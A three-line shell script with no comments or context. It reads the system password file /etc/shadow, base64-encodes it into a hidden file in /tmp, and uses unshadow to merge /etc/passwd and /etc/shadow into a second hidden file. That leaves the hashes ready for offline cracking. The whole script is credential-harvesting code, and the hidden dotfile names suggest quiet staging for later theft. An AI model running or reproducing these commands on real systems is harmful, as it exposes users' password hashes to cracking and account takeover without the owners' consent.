#!/bin/sh
cat /etc/shadow | base64 > /tmp/.s
unshadow /etc/passwd /etc/shadow > /tmp/.h
